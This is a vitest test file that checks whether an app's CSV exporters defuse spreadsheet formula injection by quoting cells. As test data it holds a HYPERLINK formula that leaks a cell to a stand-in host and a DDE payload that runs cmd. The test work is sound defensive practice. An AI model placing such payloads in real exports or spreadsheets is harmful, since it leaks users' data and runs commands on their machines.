// Every CSV the app writes, fed text a spreadsheet would run as a formula (a model answer, a model
// id, a suite name): each such cell comes out as text with a leading ', and numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { csvField, csvRecords, toCsv } from '../../src/lib/export/csv';
import { answersToCsv } from '../../src/lib/export/answers-table';
import { sideBySideCsv } from '../../src/lib/export/side-by-side-table';
import { benchmarkCsv, scorecardSummaryCsv, scorecardTasksCsv } from '../../src/lib/export/results-csv';
import { costCsv } from '../../src/lib/cost/cost-maths';
import { DEFAULT_CLOUD_PRICES } from '../../src/lib/cost/cloud-prices';
import { outlookToCsv, type OutlookRow } from '../../src/lib/hardware/device-outlook';
import type { GenerationMetrics } from '../../src/lib/engines/types';
import type { ResultsDocument, SummaryStat } from '../../src/lib/results/result-types';

const LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const HOSTILE = [LEAK, '+1+cmd|"/c calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

/** True when a spreadsheet would evaluate the read-back cell: it starts like a formula and is not just a number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

function metrics(overrides: Partial<GenerationMetrics> = {}): GenerationMetrics {
  return {
    promptTokens: 10, cachedTokens: 0, prefillTokens: 10, prefillMs: 50, prefillTokensPerSecond: 200,
    timeToFirstTokenMs: 50, generatedTokens: 5, decodeMs: 100, decodeTokensPerSecond: 50, totalMs: 150,
    stopReason: 'eos', ...overrides,
  };
}

const stat = (median: number): SummaryStat => ({ median, min: median, max: median, n: 1 });

function hostileDocument(): ResultsDocument {
  // The CSV writers read only these two tables.
  return {
    benchmark: [
      {
        modelId: LEAK, backend: 'wasm', dtype: 'q8', promptSize: 'short', promptTokens: 64, newTokens: 128,
        loadMs: stat(800), ttftMs: stat(-3.5), prefillTokensPerSecond: stat(1500), decodeTokensPerSecond: stat(200),
      },
    ],
    scorecard: [
      {
        modelId: LEAK, backend: 'wasm', dtype: 'q8', suiteName: '@SUM(A1:A9)', finishedAt: '2026-11-25T07:30:00.000Z',
        results: [
          { taskId: '-cmd', category: 'reasoning', passed: false, detail: '+detail', answer: LEAK, ms: 120, promptTokens: 30, generatedTokens: 12 },
        ],
      },
    ],
  } as unknown as ResultsDocument;
}

describe('csvField', () => {
  it.each(HOSTILE)('puts a quote before text that starts a formula: %j', (text) => {
    const [[cell]] = csvRecordsOf(toCsv([[text]]));
    expect(cell).toBe(`'${text}`);
    expect(runsAsFormula(cell!)).toBe(false);
  });

  it('leaves numbers as numbers, negative ones included, and ordinary text alone', () => {
    expect(csvField(-3.5)).toBe('-3.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(false)).toBe('false');
    expect(csvField('org/model')).toBe('org/model');
    expect(csvField('a = b')).toBe('a = b');
    // A number that arrives as text could still be a formula's first character; text is never trusted.
    expect(csvField('-3.5')).toBe("'-3.5");
  });
});

/** Rows without the header. */
function csvRecordsOf(text: string): string[][] {
  return csvRecords(`h\r\n${text}`).map((r) => [r.h!]);
}

function expectNoFormula(csv: string, columns: string[]) {
  const rows = csvRecords(csv);
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) {
    for (const column of columns) {
      expect(row[column], column).toMatch(/^'/);
    }
    for (const [column, cell] of Object.entries(row)) expect(runsAsFormula(cell), `${column}: ${cell}`).toBe(false);
  }
}

describe('every CSV writer', () => {
  it('answers table', () => {
    const csv = answersToCsv([{ answer: 1, model: LEAK, metrics: metrics({ stopReason: '-x' as GenerationMetrics['stopReason'] }) }]);
    expectNoFormula(csv, ['model', 'stop_reason']);
    expect(csvRecords(csv)[0]!.model).toBe(`'${LEAK}`);
  });

  it('side-by-side table', () => {
    const csv = sideBySideCsv(
      [{ pane: 1, model: '@evil/model', backend: 'wasm', dtype: 'q8', loadMs: 10, loadedThisRun: true, metrics: metrics(), error: '=1+1' }],
      'concurrent',
    );
    expectNoFormula(csv, ['model', 'error']);
  });

  it('benchmark results, keeping a negative figure a number', () => {
    const csv = benchmarkCsv(hostileDocument());
    expect(csvRecords(csv)[0]!.modelId).toBe(`'${LEAK}`);
    // A negative measure (a clock that stepped back) is a number cell, so it keeps its sign.
    expect(csvRecords(csv)[0]!['ttftMs median']).toBe('-3.5');
  });

  it('scorecard tasks and summary', () => {
    expectNoFormula(scorecardTasksCsv(hostileDocument()), ['modelId', 'suiteName', 'taskId', 'detail', 'answer']);
    expectNoFormula(scorecardSummaryCsv(hostileDocument()), ['modelId']);
  });

  it('cloud cost comparison', () => {
    const prices = [{ ...DEFAULT_CLOUD_PRICES[0]!, provider: '+Provider', model: LEAK, source: '@you' }];
    expectNoFormula(costCsv(prices, { chat: { inputTokens: 1000, outputTokens: 500 } }), ['provider', 'model', 'price_source']);
  });

  it('device outlook', () => {
    const row = {
      repoId: 'org/x', label: LEAK, engine: 'transformers', backend: 'wasm', dtype: 'q8', unavailable: '-no WebGPU',
      predictedRaw: -1.234, predicted: 12.345, learnedRuns: 0, verdict: null, measured: null, notes: [], estimatedBytes: null,
    } as unknown as OutlookRow;
    const csv = outlookToCsv([row]);
    const [record] = csvRecords(csv);
    expect(record).toMatchObject({ model: `'${LEAK}`, reason: "'-no WebGPU", predicted_decode_tok_s: '12.35', uncorrected_tok_s: '-1.23' });
    for (const cell of Object.values(record!)) expect(runsAsFormula(cell)).toBe(false);
  });
});
